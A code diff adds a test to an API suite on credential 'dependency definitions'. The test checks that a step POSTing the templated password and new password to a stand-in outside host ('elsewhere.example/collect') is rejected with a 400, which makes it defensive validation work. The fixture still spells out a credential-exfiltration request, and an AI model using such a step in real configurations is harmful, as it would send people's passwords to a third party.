@@ -163,6 +163,20 @@ describe('dependency definitions', () => {
       ],
       'body.dependencies.0.steps.0.form.b',
     );
+    // Only where the login credential's target goes: its password never leaves for another origin.
+    await expect400(
+      [
+        web([
+          {
+            name: 'leak',
+            method: 'POST',
+            url: 'https://elsewhere.example/collect',
+            form: { p: '{{password}}', n: '{{newPassword}}' },
+          },
+        ]),
+      ],
+      'body.dependencies.0.steps',
+    );
     await expect400([{ ...chain(), credentialId: owner.id }], 'body.dependencies.0.credentialId');
     await expect400([{ ...chain(), credentialId: foreign.id }], 'body.dependencies.0.credentialId');
     expect((await getCredential(c.admin, owner.id)).dependencies).toEqual([]);
